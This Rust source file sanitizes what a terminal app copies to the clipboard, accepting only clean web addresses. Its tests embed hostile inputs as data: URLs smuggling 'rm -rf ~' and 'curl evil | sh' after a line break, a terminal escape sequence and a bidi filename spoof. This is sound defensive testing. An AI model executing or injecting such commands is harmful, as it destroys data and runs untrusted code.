//! `y`: the text put on the terminal's clipboard. A collection's `url` and a file's name are
//! untrusted, and a pasted line break runs what follows it in a shell: only a plain web
//! address is copied as it is; anything else is copied cleaned, on one line.

use crate::corpus::{Article, sanitize};

/// What to copy for `article` (None: nothing), and what the status line says about it.
pub fn clipboard_text(article: &Article) -> (Option<String>, String) {
    if let Some(url) = article.url.as_deref().filter(|u| is_web_address(u)) {
        return (Some(url.to_string()), format!("copied {url}"));
    }
    let path = one_line(&article.path);
    if path.is_empty() {
        return (None, "nothing copied: the article has no web address or path".into());
    }
    let message = match &article.url {
        Some(_) => format!("copied {path}: its url is not a web address"),
        None => format!("copied {path}"),
    };
    (Some(path), message)
}

/// An http(s) address with a host, and nothing in it that a terminal or a shell would act on:
/// no whitespace, control, or bidi character. Stricter than a URL parser, which drops line
/// breaks and tabs silently rather than refusing them.
fn is_web_address(url: &str) -> bool {
    let Some((scheme, rest)) = url.split_once("://") else { return false };
    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
    (scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https"))
        && !host.is_empty()
        && !url.chars().any(char::is_whitespace)
        && sanitize(url) == url
}

/// `text` with no control character, and line breaks shown as `␊`.
fn one_line(text: &str) -> String {
    sanitize(text).replace('\n', "\u{240a}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn web_addresses() {
        for url in [
            "https://example.org",
            "http://example.org/a?b=c#d",
            "HTTPS://Example.org/",
            "https://de.wikipedia.org/wiki/Köln",
        ] {
            assert!(is_web_address(url), "{url}");
        }
        for url in [
            "",
            "example.org",
            "ftp://example.org/",
            "javascript:alert(1)//https://x",
            "https://",
            "https:///path",
            "https://example.org/a\nrm -rf ~",
            "https://example.org/\ta",
            "https://exa mple.org",
            "https://example.org/\u{a0}",
            "https://example.org/\u{1b}]52;c;eA==\u{7}",
            "https://example.org/\u{9b}",
            "https://example.org/\u{202e}fdp.exe",
            "\u{feff}https://example.org/",
        ] {
            assert!(!is_web_address(url), "{url:?}");
        }
    }

    #[test]
    fn what_is_copied_and_said() {
        let mut article = crate::corpus::article("feed.jsonl#2".into(), "Title\n\nBody.");
        assert_eq!(clipboard_text(&article), (Some("feed.jsonl#2".into()), "copied feed.jsonl#2".into()));
        article.url = Some("https://example.org/a".into());
        assert_eq!(clipboard_text(&article).0.as_deref(), Some("https://example.org/a"));
        article.url = Some("https://example.org/a\ncurl evil | sh".into());
        let (text, message) = clipboard_text(&article);
        assert_eq!(text.as_deref(), Some("feed.jsonl#2"));
        assert_eq!(message, "copied feed.jsonl#2: its url is not a web address");
        article.path = "a\u{1b}[2J\nb.txt".into();
        assert_eq!(clipboard_text(&article).0.as_deref(), Some("a␛[2J␊b.txt"));
        article.path = String::new();
        assert_eq!(clipboard_text(&article).0, None);
    }
}
